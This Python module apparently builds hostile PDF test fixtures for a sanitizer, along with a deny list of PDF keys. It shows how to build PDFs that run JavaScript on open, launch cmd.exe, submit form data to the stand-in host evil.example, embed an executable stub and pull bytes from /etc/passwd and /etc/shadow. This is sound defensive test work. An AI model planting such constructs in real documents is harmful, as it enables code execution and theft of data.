"""PDFs that do something, one for each way that the format has of doing something."""

from collections.abc import Callable, Iterator
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream, String

DRAWN = b"q 1 0 0 RG 10 10 50 50 re S Q BT /F1 12 Tf 20 100 Td (Seen) Tj ET"

# Keys under which a PDF acts, reaches out, hides something, or says who made it (ISO 32000-1, ISO 32000-2).
FORBIDDEN = {
    *("/JS", "/JavaScript", "/OpenAction", "/AA", "/A", "/Next", "/URI", "/Launch", "/GoToR", "/GoToE", "/SubmitForm"),
    *("/ImportData", "/ResetForm", "/Rendition", "/Movie", "/Sound", "/RichMedia", "/RichMediaContent", "/3DD", "/3DV"),
    *("/AcroForm", "/XFA", "/Fields", "/Annots", "/NeedsRendering", "/EmbeddedFiles", "/EF", "/AF", "/FS", "/RF", "/F"),
    *("/FFilter", "/FDecodeParms", "/Ref", "/OPI", "/Metadata", "/PieceInfo", "/LastModified", "/Names", "/Dests"),
    *("/Outlines", "/StructTreeRoot", "/MarkInfo", "/OCProperties", "/OCGs", "/OC", "/Alternates", "/Collection"),
    *("/URLS", "/SpiderInfo", "/Legal", "/Perms", "/Threads", "/B", "/PresSteps", "/Thumb", "/PS", "/DPartRoot"),
    *("/Author", "/Creator", "/Producer", "/Encrypt", "/Lang", "/ViewerPreferences", "/PageLabels", "/VP"),
}

Trick = Callable[[Pdf], None]
TRICKS: dict[str, Trick] = {}


def trick(make: Trick) -> Trick:
    TRICKS[make.__name__] = make
    return make


def a_drawing() -> Pdf:
    """One page that shows something, with a font."""
    pdf = pikepdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page = Dictionary(
        Type=Name.Page,
        MediaBox=[0, 0, 200, 200],
        Contents=pdf.make_stream(DRAWN),
        Resources=Dictionary(Font=Dictionary(F1=pdf.make_indirect(font))),
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    return pdf


def written(pdf: Pdf, **how: object) -> bytes:
    file = BytesIO()
    pdf.save(file, **how)
    return file.getvalue()


def hostile(name: str) -> bytes:
    pdf = a_drawing()
    TRICKS[name](pdf)
    return written(pdf)


def all_at_once() -> bytes:
    pdf = a_drawing()
    for play in TRICKS.values():
        play(pdf)
    return written(pdf)


def script(pdf: Pdf) -> Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('here')")))


def annotate(pdf: Pdf, **facts: object) -> Object:
    made = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 90, 90], **facts))
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", []), made])
    return made


def a_file(pdf: Pdf) -> Object:
    stream = pdf.make_stream(b"MZ this is a program")
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=stream)))


@trick
def script_on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script(pdf)


@trick
def scripts_by_name(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("all"), script(pdf)])))


@trick
def scripts_on_events(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=script(pdf), WP=script(pdf))
    pdf.pages[0].obj.AA = Dictionary(O=script(pdf), C=script(pdf))


@trick
def links_that_act(pdf: Pdf) -> None:
    there = {
        "URI": {"URI": String("http://evil.example/")},
        "Launch": {"F": String("cmd.exe")},
        "GoToR": {"F": String("//evil.example/share/x.pdf"), "D": Array([0, Name.Fit])},
        "GoToE": {"F": String("x.pdf")},
        "SubmitForm": {"F": Dictionary(FS=Name.URL, F=String("http://evil.example/take"))},
        "ImportData": {"F": String("data.fdf")},
        "Named": {"N": Name.Print},
    }
    for kind, facts in there.items():
        action = Dictionary(S=Name("/" + kind), Next=script(pdf), **facts)
        annotate(pdf, Subtype=Name.Link, A=action, PA=action)


@trick
def forms(pdf: Pdf) -> None:
    field = annotate(
        pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Ines"), AA=Dictionary(K=script(pdf))
    )
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=xfa, DA=String("/F1 12 Tf"), DR=pdf.pages[0].obj.Resources, CO=Array([field])
    )
    pdf.Root.AcroForm.NeedAppearances = True


@trick
def files_inside(pdf: Pdf) -> None:
    names = pdf.Root.get("/Names", Dictionary())
    names.EmbeddedFiles = Dictionary(Names=Array([String("run.exe"), a_file(pdf)]))
    pdf.Root.Names = names
    pdf.Root.AF = Array([a_file(pdf)])
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.T)
    annotate(pdf, Subtype=Name.FileAttachment, FS=a_file(pdf), Contents=String("open me"))


@trick
def media(pdf: Pdf) -> None:
    shape = pdf.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D, OnInstantiate=pdf.make_stream(b"alert()"))
    annotate(pdf, Subtype=Name("/3D"), **{"3DD": shape})
    annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=a_file(pdf)), A=Dictionary(ShowControls=True))
    annotate(pdf, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=String("x"), R=Dictionary(C=a_file(pdf))))
    annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(b"0", F=a_file(pdf), R=8000))
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), a_file(pdf)])))
    annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=content)


@trick
def pages_of_others(pdf: Pdf) -> None:
    """Reference XObjects and OPI: what is drawn comes from another file."""
    other = Dictionary(F=String("http://evil.example/x.pdf"), Page=0)
    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1], Ref=other)
    form.OPI = Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=String("big.tif"))})
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=pdf.make_indirect(form), X2=postscript(pdf))


def postscript(pdf: Pdf) -> Object:
    return pdf.make_indirect(Stream(pdf, b"(x) run", Type=Name.XObject, Subtype=Name.PS))


@trick
def bytes_elsewhere(pdf: Pdf) -> None:
    """A stream whose bytes are in a file of whoever opens the document."""
    outside = Stream(pdf, b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode)
    image = Stream(pdf, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8)
    image.ColorSpace, image.F = Name.DeviceGray, String("file:///etc/shadow")
    image.Alternates = Array([Dictionary(Image=outside, DefaultForPrinting=True)])
    resources = pdf.pages[0].obj.Resources
    resources.XObject = resources.get("/XObject", Dictionary())
    resources.XObject.I1 = pdf.make_indirect(image)
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(outside)])


@trick
def words_about_it(pdf: Pdf) -> None:
    with pdf.open_metadata() as words:
        words["dc:title"] = "Secret"
    pdf.docinfo["/Author"], pdf.docinfo["/Creator"] = String("Somebody"), String("Something")
    pdf.Root.PieceInfo = Dictionary(App=Dictionary(LastModified=String("D:2026"), Private=String("kept words")))
    pdf.pages[0].obj.Thumb = pdf.make_stream(b"\0", Width=1, Height=1)
    pdf.Root.Lang = String("de")


@trick
def layers_and_outlines(pdf: Pdf) -> None:
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("hidden")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
    pdf.pages[0].obj.Resources.Properties = Dictionary(L1=layer)
    item = pdf.make_indirect(Dictionary(Title=String("go"), A=script(pdf)))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))
    pdf.Root.Dests = Dictionary(Here=Array([pdf.pages[0].obj, Name.Fit]))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Dictionary(S=Name.P, A=Dictionary(O=Name.Layout)))
    pdf.Root.URI = Dictionary(Base=String("http://evil.example/"))


def objects_of(pdf: Pdf) -> Iterator[Object]:
    """Every dictionary and stream there is, however deep."""
    waiting: list[Object] = [*pdf.objects, pdf.trailer]
    seen: set[tuple[int, int]] = set()
    while waiting:
        thing = waiting.pop()
        if not isinstance(thing, Object):
            continue
        if thing.is_indirect:
            if thing.objgen in seen:
                continue
            seen.add(thing.objgen)
        if isinstance(thing, Array):
            waiting.extend(thing)
        elif isinstance(thing, Dictionary | Stream):
            yield thing
            waiting.extend(thing[key] for key in thing.keys())  # noqa: SIM118 - a PDF's dictionary is none of Python's
